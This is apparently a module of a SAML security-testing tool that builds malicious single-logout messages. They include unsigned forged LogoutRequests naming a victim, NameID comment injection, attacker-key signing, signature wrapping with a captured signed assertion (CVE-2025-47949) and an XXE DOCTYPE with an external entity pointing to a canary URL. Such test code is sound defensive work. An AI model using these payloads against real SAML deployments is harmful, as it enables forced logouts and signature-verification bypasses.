//! Group slo: messages of single sign-out.

pub(super) mod query;

use saml_model::{
    Assertion, Conditions, LogoutRequest, LogoutResponse, NameId, Response, SignatureAlgorithm,
    SigningOption, Status, Subject, SubjectConfirmation, names,
};
use uuid::Uuid;

use super::logout::{About, Act, Inputs};
use super::sig::{canary, choice};
use super::tree::{Tree, escaped, nothing};
use super::value::{HOUR, OTHER_ADDRESS, before};
use super::{Action, FaultError, Parameters, Signer, SigningPlan, VARIANT, cut_element};

pub(super) const ACTIONS: &[(&str, Action)] = &[
    ("slo-comment-nameid", request(Act::Tampered(comment))),
    ("slo-destination-other", request(Act::Request(other_destination))),
    ("slo-issuer-other-idp", request(Act::Request(other_issuer))),
    ("slo-multi-sessionindex", request(Act::Request(more_sessions))),
    ("slo-named", request(Act::Nothing)),
    (
        "slo-nameid-format-differs",
        request(Act::Request(other_qualities)),
    ),
    ("slo-no-sessionindex", request(Act::Request(no_session))),
    ("slo-notonorafter-past", request(Act::Request(past))),
    ("slo-post", Action::Logout(About::Either, Act::Post)),
    ("slo-response-partial", response(Act::Response(partial))),
    ("slo-response-unsigned", response(Act::Signing(unsigned))),
    ("slo-tampered-nameid", request(Act::Tampered(name_the_victim))),
    ("slo-unsigned", request(Act::Signing(unsigned))),
    ("slo-wrapped", request(Act::Signing(unsigned))),
    ("slo-wrapped", request(Act::Document(wrapped))),
    ("slo-wrong-key", request(Act::Signing(by_the_attacker))),
    ("slo-wrong-sessionindex", request(Act::Request(other_session))),
    ("slo-xxe", request(Act::Document(document_type))),
];

/// About the LogoutRequest.
const fn request(act: Act) -> Action {
    Action::Logout(About::Request, act)
}

/// About the LogoutResponse.
const fn response(act: Act) -> Action {
    Action::Logout(About::Response, act)
}

fn unsigned(plan: &mut SigningPlan) {
    plan.signer = Signer::Nobody;
}

fn by_the_attacker(plan: &mut SigningPlan) {
    plan.signer = Signer::Attacker;
}

/// The first that a reader who stops at a comment would take for the whole name.
fn comment(xml: &str, _: &Parameters, _: &Inputs<'_>) -> Result<String, FaultError> {
    let mut message = Tree::read(xml)?;
    let name = message.at_mut(&["NameID"])?;
    let text = name.content();
    let half = text
        .char_indices()
        .nth(text.chars().count() / 2)
        .ok_or_else(|| nothing("NameID"))?;
    let (first, rest) = text.split_at(half.0);
    name.set_content(format!("{first}<!---->{rest}"));
    Ok(message.write())
}

/// All of the victim's sessions are meant then: a session that is named is the user's own.
fn name_the_victim(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<String, FaultError> {
    let mut message = Tree::read(xml)?;
    put_name(&mut message, &inputs.victim(parameters)?)?;
    while message.take("SessionIndex").is_ok() {}
    Ok(message.write())
}

fn put_name(message: &mut Tree, name_id: &NameId) -> Result<(), FaultError> {
    let name = message.at_mut(&["NameID"])?;
    name.set_content(escaped(&name_id.value));
    if let Some(format) = &name_id.format {
        name.set("Format", &escaped(format));
    }
    Ok(())
}

/// A request that names the victim, and no session: all of the victim's are meant. Nobody signs it.
///
/// # Errors
/// That nobody can be meant.
fn forged(parameters: &Parameters, inputs: &Inputs<'_>) -> Result<String, FaultError> {
    let request = LogoutRequest {
        id: id(inputs, "forged"),
        version: names::VERSION.to_owned(),
        issue_instant: inputs.now,
        destination: Some(inputs.location.to_owned()),
        not_on_or_after: None,
        reason: None,
        issuer: Some(inputs.issuer.to_owned()),
        name_id: Some(inputs.victim(parameters)?),
        session_indexes: Vec::new(),
    };
    saml_emit::logout_request(&request).map_err(|_| FaultError::Unreadable)
}

/// The forged request with an assertion about the user, which the trusted key did sign: whoever looks for any signature that
/// holds finds that one (CVE-2025-47949).
fn wrapped(_: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<String, FaultError> {
    let mut message = Tree::read(&forged(parameters, inputs)?)?;
    let captured = Tree::read(&captured_assertion(inputs)?)?;
    let place = message.place("Issuer")? + 1;
    message.insert(place, Tree::new("samlp:Extensions").around(captured));
    Ok(message.write())
}

/// An assertion as the user had one of this identity provider.
fn captured_assertion(inputs: &Inputs<'_>) -> Result<String, FaultError> {
    let assertion = Assertion {
        id: id(inputs, "assertion"),
        version: names::VERSION.to_owned(),
        issue_instant: inputs.now,
        issuer: inputs.issuer.to_owned(),
        subject: Some(Subject {
            name_id: inputs.name_id.cloned(),
            confirmations: vec![SubjectConfirmation {
                method: names::CM_BEARER.to_owned(),
                data: None,
            }],
        }),
        conditions: Some(Conditions {
            not_before: Some(inputs.now),
            not_on_or_after: Some(inputs.now.saturating_add(HOUR).unwrap_or(inputs.now)),
            audience_restrictions: vec![vec![inputs.audience.to_owned()]],
            one_time_use: false,
        }),
        attributes: Vec::new(),
        authn_statements: Vec::new(),
    };
    let response = Response {
        id: id(inputs, "response"),
        version: names::VERSION.to_owned(),
        issue_instant: inputs.now,
        destination: None,
        in_response_to: None,
        issuer: None,
        status: Status::success(),
        assertion: Some(assertion),
    };
    let own = inputs.own()?;
    let signing = saml_emit::Signing {
        algorithm: SignatureAlgorithm::RsaSha256,
        key: own.key.private(),
        certificate_der: own.certificate.der(),
    };
    let signed = saml_emit::response(&response, SigningOption::Assertion, Some(&signing));
    let signed = signed.map_err(|_| FaultError::NotSigned)?;
    let (_, assertion, _) = cut_element(&signed, "Assertion").ok_or_else(|| nothing("Assertion"))?;
    Ok(assertion.to_owned())
}

/// It is another identity provider's to end: whose key is trusted may speak for itself alone.
fn other_issuer(request: &mut LogoutRequest, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    request.issuer = Some(format!("https://sts.windows.net/{}/", inputs.stranger));
    Ok(())
}

fn other_destination(request: &mut LogoutRequest, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    request.destination = Some(OTHER_ADDRESS.to_owned());
    Ok(())
}

fn past(request: &mut LogoutRequest, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    request.not_on_or_after = Some(before(inputs.now, HOUR));
    Ok(())
}

fn no_session(request: &mut LogoutRequest, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    request.session_indexes.clear();
    Ok(())
}

fn other_session(request: &mut LogoutRequest, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    request.session_indexes = vec![id(inputs, "session")];
    Ok(())
}

/// Those of the user's other browsers, before the one that has ended.
fn more_sessions(request: &mut LogoutRequest, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    if inputs.other_sessions.is_empty() {
        return Err(FaultError::OneSession);
    }
    let own = std::mem::take(&mut request.session_indexes);
    request.session_indexes = inputs.other_sessions.iter().cloned().chain(own).collect();
    Ok(())
}

/// The same text, as another name (saml-core 3.3.4).
fn other_qualities(
    request: &mut LogoutRequest,
    parameters: &Parameters,
    _: &Inputs<'_>,
) -> Result<(), FaultError> {
    let name_id = request.name_id.as_mut().ok_or_else(|| nothing("NameID"))?;
    let choices = [("format", 0), ("name-qualifier", 1), ("sp-name-qualifier", 2)];
    let elsewhere = || Some("https://other-idp.test/".to_owned());
    match choice(parameters, VARIANT, &choices)? {
        0 => {
            let other = match name_id.format.as_deref() {
                Some(names::NAME_ID_PERSISTENT) => names::NAME_ID_EMAIL,
                _ => names::NAME_ID_PERSISTENT,
            };
            name_id.format = Some(other.to_owned());
        }
        1 => name_id.name_qualifier = elsewhere(),
        _ => name_id.sp_name_qualifier = elsewhere(),
    }
    Ok(())
}

fn document_type(xml: &str, parameters: &Parameters, _: &Inputs<'_>) -> Result<String, FaultError> {
    let canary = canary(parameters);
    Ok(format!(
        "<!DOCTYPE samlp:LogoutRequest [<!ENTITY % x SYSTEM \"{canary}\"> %x;]>{xml}"
    ))
}

/// saml-core 3.7.3.2: somebody of the session could not be told.
fn partial(response: &mut LogoutResponse, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let choices = [
        ("responder", names::STATUS_RESPONDER),
        ("partial", names::STATUS_SUCCESS),
    ];
    response.status = Status {
        code: choice(parameters, VARIANT, &choices)?.to_owned(),
        sub_code: Some(names::STATUS_PARTIAL_LOGOUT.to_owned()),
        message: None,
    };
    Ok(())
}

/// An id that nobody else has.
fn id(inputs: &Inputs<'_>, what: &str) -> String {
    format!("_{}", Uuid::new_v5(&inputs.stranger, what.as_bytes()))
}
